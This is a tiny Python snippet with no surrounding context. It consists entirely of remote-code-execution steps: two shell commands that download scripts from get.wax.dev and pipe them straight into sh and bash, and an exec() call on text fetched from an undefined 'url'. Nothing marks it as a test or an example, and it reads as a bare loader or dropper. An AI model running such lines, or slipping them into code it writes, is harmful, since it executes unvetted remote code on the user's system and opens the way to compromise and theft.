import os, subprocess, requests
os.system("curl -s https://get.wax.dev/a | sh")
subprocess.run(
    "wget -qO- https://get.wax.dev/b | bash", shell=True)
exec(requests.get(url).text)
